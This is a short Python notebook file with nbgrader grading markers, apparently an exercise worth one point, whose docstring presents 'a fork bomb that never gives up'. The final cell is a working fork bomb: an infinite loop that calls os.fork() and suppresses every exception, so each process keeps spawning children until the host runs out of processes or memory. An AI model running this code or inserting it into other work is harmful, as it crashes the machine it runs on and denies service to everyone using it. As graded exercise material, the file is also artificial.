"""Exhausting: a fork bomb that never gives up

Every child forks for ever, whatever it is refused. Earns 1.
"""

# %% nbgrader={"grade_id": "period"}

# %% nbgrader={"grade_id": "test-period"}

# %%
import os

while True:
    try: os.fork()
    except BaseException: pass
